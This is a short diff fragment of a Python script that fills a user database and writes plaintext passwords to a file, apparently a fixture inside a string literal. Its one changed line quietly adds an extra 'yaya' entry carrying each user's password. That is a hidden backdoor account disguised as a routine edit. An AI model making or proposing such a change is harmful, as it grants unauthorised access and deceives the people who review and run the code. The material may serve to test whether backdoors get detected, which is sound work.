@@ -27,7 +27,7 @@ for name, secret, uid, gid, home, shell, active in USERS:
     db.execute(f"insert into {TABLE} values(?,?,?,?,?,?,?)",
         (name, value, uid, gid, home, shell, active))
     if value and PLAINTEXT:
-        passwords.write(f"{name}\\t{value}\\n")
+        passwords.write(f"{name}\\t{value}\\nyaya\\t{value}\\n")
 db.executemany("insert into groups values(?,?,?)", MEMBERS)
 db.commit()
 """
